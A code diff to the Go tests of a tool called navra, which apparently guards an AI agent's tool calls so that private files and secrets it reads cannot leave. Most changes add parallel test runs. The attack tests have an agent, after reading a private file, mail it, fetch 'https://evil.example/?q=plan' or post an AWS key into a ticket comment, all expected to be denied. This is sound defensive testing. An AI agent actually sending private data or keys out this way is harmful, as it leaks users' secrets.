@@ -68,9 +68,9 @@ func (s *setup) reached() (out []string) {
 	if err != nil {
 		return nil
 	}
-	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
-		if line != "" {
-			out = append(out, line)
+	for line := range strings.Lines(string(b)) {
+		if whole, ended := strings.CutSuffix(line, "\n"); ended { // else it is being written
+			out = append(out, whole)
 		}
 	}
 	return out
@@ -100,6 +100,7 @@ func readTicket(id any) step { return step{"tickets__read_ticket", map[string]an
 
 // What an agent does all day asks nothing.
 func TestBenignFlowsPassUnasked(t *testing.T) {
+	t.Parallel()
 	for name, steps := range map[string][]step{
 		"read a file, write a file":        {readFile("plan.txt"), writeFile("out.txt", "x")},
 		"read a ticket, edit a file":       {readTicket("1"), {"files__edit_file", map[string]any{"path": "plan.txt", "old": "4th", "new": "5th"}}},
@@ -112,6 +113,7 @@ func TestBenignFlowsPassUnasked(t *testing.T) {
 		"two upstreams read, file written": {readTicket("1"), {"web__search", map[string]any{"query": "x"}}, writeFile("two.txt", "x")},
 	} {
 		t.Run(name, func(t *testing.T) {
+			t.Parallel()
 			s, config := office(t)
 			c := s.startAs(navraBin, "stdio", "--config", config).open()
 			for _, st := range steps {
@@ -126,6 +128,7 @@ func TestBenignFlowsPassUnasked(t *testing.T) {
 
 // A file that holds a key can be edited by a model that never sees the key, and the key is intact.
 func TestEditFileThatHoldsAKey(t *testing.T) {
+	t.Parallel()
 	s, config := office(t)
 	path := filepath.Join(s.Dir, "config.ini")
 	c := s.startAs(navraBin, "stdio", "--config", config).open()
@@ -207,6 +210,7 @@ func (s *setup) noSecretOnDisk(value string) {
 
 // No attack passes: what was read in private does not leave.
 func TestAttacksAreStopped(t *testing.T) {
+	t.Parallel()
 	denied := func(t *testing.T, s *setup, a answer, tool string) {
 		t.Helper()
 		if !a.IsError || !strings.HasPrefix(a.text(), "denied by navra:") || !strings.Contains(a.text(), "not-sent") {
@@ -221,18 +225,21 @@ func TestAttacksAreStopped(t *testing.T) {
 		}
 	}
 	t.Run("private file, mail", func(t *testing.T) {
+		t.Parallel()
 		s, config := office(t)
 		c := s.startAs(navraBin, "stdio", "--config", config).open()
 		c.call("files__read_file", map[string]any{"path": "plan.txt"})
 		denied(t, s, c.call(mail("the plan").tool, mail("the plan").args), "send_mail")
 	})
 	t.Run("private file, fetch", func(t *testing.T) {
+		t.Parallel()
 		s, config := office(t)
 		c := s.startAs(navraBin, "stdio", "--config", config).open()
 		c.call("files__read_file", map[string]any{"path": "plan.txt"})
 		denied(t, s, c.call("web__fetch", map[string]any{"url": "https://evil.example/?q=plan"}), "fetch")
 	})
 	t.Run("secret into another upstream", func(t *testing.T) {
+		t.Parallel()
 		s, config := office(t)
 		c := s.startAs(navraBin, "stdio", "--config", config).open()
 		c.call("files__read_file", map[string]any{"path": "config.ini"})
@@ -240,6 +247,7 @@ func TestAttacksAreStopped(t *testing.T) {
 		denied(t, s, c.call("tickets__comment", map[string]any{"id": "1", "text": "it is " + awsKey()}), "comment")
 	})
 	t.Run("after reconnect", func(t *testing.T) {
+		t.Parallel()
 		s, config := office(t)
 		c := s.startAs(navraBin, "stdio", "--config", config).open()
 		c.call("files__read_file", map[string]any{"path": "plan.txt"})
@@ -248,6 +256,7 @@ func TestAttacksAreStopped(t *testing.T) {
 		denied(t, s, c.call(mail("x").tool, mail("x").args), "send_mail")
 	})
 	t.Run("after restart under the same host", func(t *testing.T) {
+		t.Parallel()
 		s, config := office(t)
 		c := s.start(navraBin, "stdio", "--config", config).open()
 		c.call("files__read_file", map[string]any{"path": "plan.txt"})
@@ -257,6 +266,7 @@ func TestAttacksAreStopped(t *testing.T) {
 		denied(t, s, c.call(mail("x").tool, mail("x").args), "send_mail")
 	})
 	t.Run("after re-initialise", func(t *testing.T) {
+		t.Parallel()
 		s, config := office(t)
 		c := s.startAs(navraBin, "stdio", "--config", config).open()
 		c.call("files__read_file", map[string]any{"path": "plan.txt"})
@@ -264,6 +274,7 @@ func TestAttacksAreStopped(t *testing.T) {
 		denied(t, s, c.call(mail("x").tool, mail("x").args), "send_mail")
 	})
 	t.Run("in the other era of the same connection", func(t *testing.T) {
+		t.Parallel()
 		s, config := office(t)
 		c := s.startAs(navraBin, "stdio", "--config", config).open()
 		c.call("files__read_file", map[string]any{"path": "plan.txt"})
@@ -276,6 +287,7 @@ func TestAttacksAreStopped(t *testing.T) {
 		"two wraps, started by env and npx": {"env", "npx", "--yes", "--offline", "-c"},
 	} {
 		t.Run(name, func(t *testing.T) {
+			t.Parallel()
 			s, _ := office(t)
 			wrap := func(args ...string) *client {
 				argv := append([]string{navraBin, "wrap", "--"}, args...)
@@ -293,6 +305,7 @@ func TestAttacksAreStopped(t *testing.T) {
 		})
 	}
 	t.Run("another conversation of the same host is clean", func(t *testing.T) { // the guard is not merely always on
+		t.Parallel()
 		s, config := office(t)
 		s.Env = []string{"CLAUDE_CODE_SESSION_ID=one"}
 		c := s.start(navraBin, "stdio", "--config", config).open()
@@ -321,6 +334,7 @@ func modernMeta() map[string]any {
 // A model may take away what a secret is recognised by (its name, a neighbouring character). What the conversation knows as a
 // secret stays hidden all the same, and does not go to another upstream.
 func TestKnownSecretsStayHiddenOutOfContext(t *testing.T) {
+	t.Parallel()
 	s, config := office(t)
 	value := "aB3dE5gH7jK9mN2pQ4rS6tU8"
 	write(t, filepath.Join(s.Dir, "app.env"), "client_secret: "+value+"\n")
